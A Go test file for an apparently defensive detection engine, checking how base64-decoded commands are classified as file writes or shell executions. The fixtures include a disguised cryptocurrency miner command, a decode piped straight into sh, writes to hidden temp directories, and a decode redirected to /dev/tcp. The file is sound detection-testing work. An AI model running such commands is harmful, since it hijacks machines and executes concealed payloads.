package detect

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// TestDecodedIntoAFile: text a command decodes into a file is the file's
// content, not a command the act runs. A miner's command line written
// into a watchdog script (shop-miner) does not make the act a miner run;
// the same text decoded into a shell is one. Either way the content is
// read: it shows intent, and the reason says what it would be.
func TestDecodedIntoAFile(t *testing.T) {
	miner := "./kworkerds -o 127.0.0.1:3333 -u x -p shop1 -k --cpu-max-threads-hint=30"
	b64 := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwhile :; do " + miner + "; sleep 5; done\n"))
	for _, c := range []struct {
		name, cmd string
		run       bool // the miner runs in this act
	}{
		{"decoded into a script", "mkdir -p /var/tmp/.w && echo " + b64 + " | base64 -d > /var/tmp/.w/wd.sh && chmod 700 /var/tmp/.w/wd.sh", false},
		{"decoded into a shell", "echo " + b64 + " | base64 -d | sh", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			fs := execAs(t, 33, "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd)
			var f *Finding
			for _, g := range fs {
				if slices.Contains(g.RuleIDs, "resource-hijacking") {
					f = g
				}
			}
			if f == nil {
				t.Fatalf("resource-hijacking did not read the content (%v)", ids(fs))
			}
			miner := f.Title == "Cryptocurrency Miner Run"
			if miner != c.run {
				t.Errorf("titled %q (stage %v), want a miner run %v", f.Title, f.Stage, c.run)
			}
			if !c.run && (f.Stage == StageExfiltrationImpact || !strings.Contains(f.Reason, "decodes into /var/tmp/.w/wd.sh")) {
				t.Errorf("stage %v, reason %q: want the write placed by what it runs, the file named", f.Stage, f.Reason)
			}
		})
	}
}

func TestDecodedInto(t *testing.T) {
	for _, c := range []struct {
		seg, want string
	}{
		{"echo QUJD | base64 -d > /tmp/a.sh", "/tmp/a.sh"},
		{"echo QUJD|base64 --decode >>'/tmp/b'", "/tmp/b"},
		{"echo QUJD | base64 -d | gunzip > /tmp/c", "/tmp/c"},
		{"echo QUJD | base64 -d | sh", ""},
		{"echo QUJD | base64 -d | python3 > /tmp/out", ""},
		{"echo QUJD | base64 -d > /dev/tcp/1.2.3.4/80", ""},
		{"echo QUJD | base64 -d > /dev/shm/.p/w", "/dev/shm/.p/w"}, // a tmpfs, not a device
		{"echo QUJD | base64 -d 2>/dev/null", ""},
		{"echo QUJD | base64 -d", ""},
	} {
		got, _ := decodedInto(c.seg)
		if got != c.want {
			t.Errorf("decodedInto(%q) = %q, want %q", c.seg, got, c.want)
		}
	}
}
